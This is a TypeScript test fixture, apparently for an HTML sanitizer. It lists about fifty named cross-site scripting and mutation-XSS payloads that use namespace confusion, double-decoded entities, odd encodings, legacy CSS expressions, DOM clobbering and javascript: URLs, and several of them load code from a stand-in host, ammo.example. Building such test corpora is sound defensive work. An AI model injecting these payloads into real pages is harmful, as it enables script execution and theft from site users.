/** Hostile HTML of our own that a browser of today leaves alone: it comes alive in older programs, in a page with scripts of its own, or when it is read or written once too often. */

const RUN = 'alert(1)'
const AT = 'https://ammo.example'

export const AMMUNITION_WHEN_MISREAD: Readonly<Record<string, string>> = {
  // Read once too often, or written and read again.
  'listing that was written out': `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  'xmp that was written out': `<xmp>&lt;img src=x onerror=${RUN}&gt;</xmp>`,
  'textarea that was written out': `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${RUN}&gt;</textarea>`,
  'title that was written out': `<title>&lt;/title&gt;&lt;img src=x onerror=${RUN}&gt;</title>`,
  'style of svg that was written out': `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  'frame that is empty': `<iframe><img src=x onerror=${RUN}></iframe>`,
  'noembed that is empty': `<noembed><img src=x onerror=${RUN}></noembed>`,
  'form that ends a namespace': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form></mtext></math></form>`,
  'table that ends a namespace': `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${RUN}">`,
  'select that ends a namespace': `<math><mtext><option><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'link that ends a namespace': `<a><svg><a><style><!--</style><b title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'address of markup': `<p title="--&gt;&lt;img src=x onerror=${RUN}&gt;">x</p>`,
  'cite of markup': `<blockquote cite="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</blockquote>`,
  'font of markup': `<font face="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;" color="&lt;script&gt;">x</font>`,
  'style of markup': `<p style="font-family:'&lt;/style&gt;&lt;img src=x onerror=${RUN}&gt;'">x</p>`,
  'back quotes': `<img alt="\`\`onerror=${RUN} src=x">`,
  'words in another encoding': `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  'words in overlong bytes': `\u00c0\u00bcscript\u00c0\u00be${RUN}\u00c0\u00bc/script\u00c0\u00be`,
  'words in wide characters': `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  'words in escapes of a script': `\\x3cscript\\x3e${RUN}\\u003c/script\\u003e`,
  'words of a template engine': `{{constructor.constructor('${RUN}')()}}<p ng-app v-html="x" x-data="${RUN}">x</p>`,

  // Live in older programs.
  'comment of old Outlook': `<!--[if mso]><img src="${AT}/outlook.gif" onerror=${RUN}><![endif]-->`,
  'expression of old': `<p style="width:expression(${RUN})">x</p>`,
  'expression in pieces': `<p style="width:exp/**/ression(${RUN});x:\\65xpression(${RUN})">x</p>`,
  'behaviour of old': `<p style="behavior:url(${AT}/x.htc);-moz-binding:url(${AT}/x.xml#x)">x</p>`,
  'refresh that runs': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">x`,
  'cookie that is set': `<meta http-equiv=set-cookie content="a=b">x`,
  'encoding that is set': `<meta charset=utf-7>+ADw-img src=x onerror=${RUN}+AD4-`,
  'layer and binding': `<layer src="${AT}/layer"></layer><xml id=i src="${AT}/island"></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
  applet: `<applet code=X codebase="${AT}/applet"></applet>`,
  'search field of old': `<isindex action="${AT}/isindex" prompt=x>`,
  'link to another program': `<a href="ms-word:ofe|u|${AT}/x.doc">x</a><a href="search-ms:query=x">y</a>`,
  'comment that ends with a blank': `<!-- -- ><img src=x onerror=${RUN}> -->`,

  // Names that take the place of the page's own.
  'names of the page': `<img name=getElementById><form name=body id=cookie><input name=attributes><input name=parentNode></form>`,
  'names of a setting': `<p id=config class=config></p><p id=config name=url></p>`,
  'names of frames': `<iframe name=self></iframe><object name=top></object><embed name=parent>`,
  'parts of the page': `<slot name=x></slot><p slot=x part=x exportparts=x is=x-y itemprop=x itemid="${AT}/item">x</p>`,

  // By chance, by hand, or in words.
  'handler of a marquee': `<marquee onstart=${RUN}>x</marquee>`,
  'handler of what is hidden until found': `<p hidden=until-found onbeforematch=${RUN}>x</p>`,
  'end tag with attributes': `<style></style x="><img src=x onerror=${RUN}>">`,
  'style in math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'words as markup, once decoded': `&lt;img src=x onerror=${RUN}&gt;`,
  'words as markup, twice decoded': `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  'javascript address in math': `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
  'blob address': `<a href="blob:${AT}/0">x</a>`,
  'vbscript address': `<a href="vbscript:msgbox(1)">x</a>`,
  'address among the words': `<p>see ${AT}/words and www.ammo.example/too</p>`,
}
